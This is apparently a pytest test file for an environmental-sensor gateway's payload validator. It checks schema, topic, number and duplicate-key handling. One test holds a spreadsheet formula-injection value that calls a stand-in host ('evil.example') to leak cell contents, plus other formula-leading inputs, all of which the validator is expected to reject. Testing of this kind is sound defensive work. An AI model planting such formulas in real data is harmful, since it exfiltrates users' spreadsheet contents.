"""The wire contract (docs/protocol.md): what the gateway accepts, and what it refuses and why."""

from __future__ import annotations

import contextlib
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from contract.metrics import Metric
from contract.wire import (
    MAX_PAYLOAD_BYTES,
    MetricValue,
    PayloadError,
    ReadingPayload,
    is_identifier,
    parse_topic,
)
from gateway.validate import _decode, parse_reading

TOPIC = "minewatch/v1/tsagaan/river-down/reading"


def example() -> dict[str, Any]:
    return {
        "schema": 1,
        "site": "tsagaan",
        "node": "river-down",
        "seq": 1042,
        "ts": "2026-11-22T10:01:00.000Z",
        "period_s": 60,
        "metrics": {
            "pm2_5": {"value": 10.9, "raw": 12.0, "n": 60, "cal": "pms5003-a12@2026-10-01"},
            "turbidity": {"value": 4.5, "raw": 1.23, "n": 60, "cal": "sen0189-b07@2026-11-02"},
            "rh": {"value": 41.2, "n": 60},
        },
        "flags": ["warming_up"],
    }


def encode(doc: Any) -> bytes:
    return json.dumps(doc).encode()


def test_the_example_in_the_contract_is_accepted_and_round_trips() -> None:
    reading = parse_reading(TOPIC, encode(example()))
    assert reading.seq == 1042
    assert reading.ts.isoformat() == "2026-11-22T10:01:00+00:00"
    again = parse_reading(TOPIC, reading.to_wire())
    assert again == reading
    assert json.loads(reading.to_wire())["metrics"]["rh"] == {"value": 41.2, "n": 60}


def test_a_reading_built_in_python_is_checked_as_one_from_the_wire() -> None:
    # MetricValue is a plain tuple; the node's readings are still validated when they are built
    doc = example()
    built = {Metric(name): MetricValue(**entry) for name, entry in doc["metrics"].items()}
    reading = ReadingPayload.model_validate({**doc, "metrics": built})
    assert reading == parse_reading(TOPIC, encode(doc))
    mixed = {**doc["metrics"], "rh": MetricValue(value=120.0, n=60)}  # one built, out of range
    with pytest.raises(ValidationError):
        ReadingPayload.model_validate({**doc, "metrics": mixed})
    assert ReadingPayload.model_validate(reading.model_dump(by_alias=True)) == reading
    for bad in (
        MetricValue(value=float("nan"), n=60),
        MetricValue(value=12.0, n=-1),
        MetricValue(value="12", n=60),  # type: ignore[arg-type]
        MetricValue(value=120.0, n=60),  # rh above 100 %
        MetricValue(value=12.0, n=60, cal="has space"),
    ):
        with pytest.raises(ValidationError):
            ReadingPayload.model_validate({**doc, "metrics": {Metric.RH: bad}})


def test_a_failed_sensor_sends_null_value() -> None:
    doc = example()
    doc["metrics"]["pm2_5"] = {"value": None, "n": 0}
    doc["flags"] = ["sensor_fault"]
    assert parse_reading(TOPIC, encode(doc)).metrics["pm2_5"].value is None  # type: ignore[index]


def mutate(path: str, value: Any) -> dict[str, Any]:
    doc = example()
    *parents, last = path.split(".")
    target = doc
    for key in parents:
        target = target[key]
    if value is KeyError:
        del target[last]
    else:
        target[last] = value
    return doc


BAD = [
    ("schema 2", mutate("schema", 2), "bad_schema_version"),
    ("schema as string", mutate("schema", "1"), "bad_schema_version"),
    ("schema as true", mutate("schema", True), "bad_schema_version"),
    ("seq as true", mutate("seq", True), "invalid"),
    ("unknown top-level field", mutate("sig", "abc"), "invalid"),
    ("unknown metric", mutate("metrics.co2", {"value": 1.0, "n": 1}), "invalid"),
    ("unknown metric field", mutate("metrics.rh.unit", "%"), "invalid"),
    ("missing seq", mutate("seq", KeyError), "invalid"),
    ("seq zero", mutate("seq", 0), "invalid"),
    ("seq as string", mutate("seq", "1042"), "invalid"),
    ("seq as float", mutate("seq", 1042.0), "invalid"),
    ("value as string", mutate("metrics.rh.value", "41.2"), "invalid"),
    ("missing n", mutate("metrics.rh.n", KeyError), "invalid"),
    ("negative n", mutate("metrics.rh.n", -1), "invalid"),
    ("rh over 100", mutate("metrics.rh.value", 140.0), "invalid"),
    ("negative pm", mutate("metrics.pm2_5.value", -3.0), "invalid"),
    ("huge number", mutate("metrics.pm2_5.raw", 1e400), "not_finite"),
    ("no metrics", mutate("metrics", {}), "invalid"),
    ("unknown flag", mutate("flags", ["dusty"]), "invalid"),
    ("repeated flag", mutate("flags", ["warming_up", "warming_up"]), "invalid"),
    ("local time", mutate("ts", "2026-11-22T18:01:00.000+08:00"), "invalid"),
    ("no timezone", mutate("ts", "2026-11-22T10:01:00.000"), "invalid"),
    ("epoch number ts", mutate("ts", 1795000000), "invalid"),
    ("period zero", mutate("period_s", 0), "invalid"),
    ("bad site id", mutate("site", "Tsagaan"), "invalid"),
    ("cal with space", mutate("metrics.rh.cal", "a b"), "invalid"),
]


@pytest.mark.parametrize(("name", "doc", "reason"), BAD, ids=[b[0] for b in BAD])
def test_invalid_payloads_are_refused_with_a_reason(name: str, doc: Any, reason: str) -> None:
    with pytest.raises(PayloadError) as caught:
        parse_reading(TOPIC, encode(doc))
    assert caught.value.reason == reason


# A valid reading whose raw value is a JSON number no float can hold: json.loads makes it infinity.
TOO_LARGE_A_NUMBER = encode(example()).replace(b'"raw": 12.0', b'"raw": 1e400')


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"\xff\xfe not utf-8", "not_utf8"),
        (b"{not json", "not_json"),
        (b"[1, 2]", "not_object"),
        (b'{"schema": 1, "schema": 1}', "duplicate_key"),
        (b'{"schema": 1, "seq": NaN}', "not_finite"),
        (b'{"schema": 1, "seq": Infinity}', "not_finite"),
        (TOO_LARGE_A_NUMBER, "not_finite"),
        (b"[" * 100_000 + b"]" * 100_000, "too_large"),
        (b"[" * 2000 + b"]" * 2000, "not_json"),
        (b" " * (MAX_PAYLOAD_BYTES + 1), "too_large"),
    ],
)
def test_malformed_bytes_are_refused(payload: bytes, reason: str) -> None:
    with pytest.raises(PayloadError) as caught:
        parse_reading(TOPIC, payload)
    assert caught.value.reason == reason


def test_topic_must_match_payload() -> None:
    with pytest.raises(PayloadError) as caught:
        parse_reading("minewatch/v1/tsagaan/haul-road/reading", encode(example()))
    assert caught.value.reason == "topic_mismatch"


@pytest.mark.parametrize(
    "topic",
    [
        "minewatch/v2/tsagaan/river-down/reading",
        "other/v1/tsagaan/river-down/reading",
        "minewatch/v1/tsagaan/river-down/status",
        "minewatch/v1/tsagaan/river-down/extra/reading",
        "minewatch/v1/TSAGAAN/river-down/reading",
    ],
)
def test_topics_outside_the_contract_are_refused(topic: str) -> None:
    with pytest.raises(PayloadError) as caught:
        parse_reading(topic, encode(example()))
    assert caught.value.reason == "bad_topic"


@pytest.mark.parametrize(
    ("text", "ok"),
    [
        ("tsagaan", True),
        ("river-down", True),
        ("n_1", True),
        ("0", True),
        ("a" * 32, True),
        ("a" * 33, False),
        ("-lead", False),
        ("_lead", False),
        ("Upper", False),
        ("a/b", False),
        ("a+b", False),
        ("a#", False),
        ("", False),
        ("a b", False),
    ],
)
def test_identifiers(text: str, ok: bool) -> None:
    assert is_identifier(text) is ok


def test_parse_topic_returns_site_node_kind() -> None:
    site, node, kind = parse_topic("minewatch", TOPIC)
    assert (site, node, kind.value) == ("tsagaan", "river-down", "reading")


@given(st.binary(max_size=600))
def test_arbitrary_bytes_never_escape_as_anything_but_payload_error(payload: bytes) -> None:
    with contextlib.suppress(PayloadError):
        parse_reading(TOPIC, payload)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=20,
)


@given(st.dictionaries(st.sampled_from(list(example())), json_values, max_size=8))
def test_arbitrary_json_objects_are_accepted_only_when_valid(doc: dict[str, Any]) -> None:
    try:
        reading = parse_reading(TOPIC, json.dumps(doc).encode())
    except PayloadError:
        return
    assert parse_reading(TOPIC, reading.to_wire()) == reading


@settings(max_examples=200)
@given(st.data())
def test_a_repeated_key_at_any_depth_is_refused(data: st.DataObject) -> None:
    doc = example()
    where = data.draw(st.sampled_from([doc, doc["metrics"], *doc["metrics"].values()]))
    key = data.draw(st.sampled_from(sorted(where)))
    again = data.draw(st.sampled_from([where[key], 7, "x", None]))  # the same value or another
    where["__again__"] = again
    text = encode(doc).replace(b'"__again__"', json.dumps(key).encode())
    with pytest.raises(PayloadError) as caught:
        parse_reading(TOPIC, text)
    assert caught.value.reason == "duplicate_key"


def test_a_cal_id_that_looks_like_a_key_is_not_taken_for_one() -> None:
    doc = example()
    doc["metrics"]["pm2_5"]["cal"] = 'a12":"n":'  # quotes and colons are allowed in a cal id
    reading = parse_reading(TOPIC, encode(doc))
    assert reading.metrics["pm2_5"].cal == 'a12":"n":'  # type: ignore[index]


@pytest.mark.parametrize(
    ("cal", "ok"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', False),
        ("+1+1", False),
        ("-2+3", False),
        ("@SUM(A1:A9)", False),
        ("_x", False),
        (".hidden", False),
        ("'quoted", False),
        ("pms5003-a12@2026-10-01", True),
        ("örgöö-1", True),
        ("2026-10-01", True),
        ("a=b+c", True),  # only the first character can make a formula
    ],
)
def test_a_cal_id_starts_with_a_letter_or_digit_so_no_spreadsheet_runs_it(cal: str, ok: bool) -> None:
    doc = example()
    doc["metrics"]["pm2_5"]["cal"] = cal
    if ok:
        assert parse_reading(TOPIC, encode(doc)).metrics["pm2_5"].cal == cal  # type: ignore[index]
    else:
        with pytest.raises(PayloadError) as caught:
            parse_reading(TOPIC, encode(doc))
        assert caught.value.reason == "invalid" and "metrics.pm2_5.cal" in caught.value.detail.replace(
            "`", ""
        )


_JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=300)
@given(_JSON_VALUES, st.booleans())
def test_the_parser_reads_every_document_as_the_stdlib_does(doc: Any, ascii_only: bool) -> None:
    # The gateway parses with jiter (Rust) for speed; what it reads must be what Python's own
    # parser reads, down to the last bit of every float and each escaped character.
    text = json.dumps(doc, ensure_ascii=ascii_only)
    ours = _decode(text.encode())
    assert json.dumps(ours) == json.dumps(json.loads(text))


@settings(max_examples=500)
@given(st.from_regex(r"-?(0|[1-9][0-9]{0,24})(\.[0-9]{1,30})?([eE][-+]?[0-9]{1,3})?", fullmatch=True))
def test_every_number_text_becomes_the_float_python_makes_of_it(number: str) -> None:
    # Correct rounding of long decimals and extreme exponents: a regulator's value must not move.
    ours, theirs = _decode(number.encode()), json.loads(number)
    assert type(ours) is type(theirs)
    assert repr(ours) == repr(theirs)


def test_a_lone_surrogate_escape_is_refused() -> None:
    # Python's parser accepts "\ud800" and makes a string no UTF-8 writer can encode; jiter refuses it.
    doc = example()
    doc["metrics"]["pm2_5"]["cal"] = "cal-\ud800"
    with pytest.raises(PayloadError) as caught:
        parse_reading(TOPIC, json.dumps(doc).encode())
    assert caught.value.reason == "not_json"


def test_readings_of_one_shape_share_their_set_of_fields_and_a_copy_does_not() -> None:
    """The gateway shares pydantic's per-instance set of field names among readings of one shape
    (gateway/validate.py): what each reports as set is still its own, and a copy with an update
    changes neither the shared set nor any other reading."""
    a = parse_reading(TOPIC, json.dumps(example()).encode())
    b = parse_reading(TOPIC, json.dumps({**example(), "seq": 1043}).encode())
    bare = {k: v for k, v in example().items() if k != "flags"}
    c = parse_reading(TOPIC, json.dumps(bare).encode())
    assert a.model_fields_set is b.model_fields_set
    assert "flags" not in c.model_fields_set and "flags" in a.model_fields_set
    copied = a.model_copy(update={"kid": "0123456789abcdef"})
    assert "kid" in copied.model_fields_set and "kid" not in b.model_fields_set
    assert a.model_dump(exclude_unset=True).keys() == {*example()} - {"schema"} | {"schema_"}
    assert a == parse_reading(TOPIC, json.dumps(example()).encode())
